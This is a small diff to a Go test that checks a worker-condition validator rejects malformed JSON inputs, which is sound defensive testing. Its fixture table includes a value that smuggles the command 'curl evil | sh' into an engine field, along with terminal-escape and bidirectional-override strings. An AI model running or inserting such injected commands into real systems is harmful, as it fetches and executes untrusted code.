@@ -32,6 +32,7 @@ func TestAWorkerPlantsNoCommands(t *testing.T) {
 		`{"worker":"h:1:a","conditions":[{"kind":"engine_away","queue":"sms","text":"x"}]}`:                               "out_of_bounds",
 		`{"worker":"h:1:a","conditions":[{"kind":"engine_away","queue":"mail","engine":"e; curl evil | sh","text":"x"}]}`: "invalid",
 		`{"worker":"h:1:a","conditions":[{"kind":"` + long + `","text":"x"}]}`:                                            "invalid",
+
 		`{"worker":"h:1:\u001b]0;a\u0007"}`: "invalid",
 		`{"worker":"h:1:\u202ea"}`:          "invalid",
 	} {
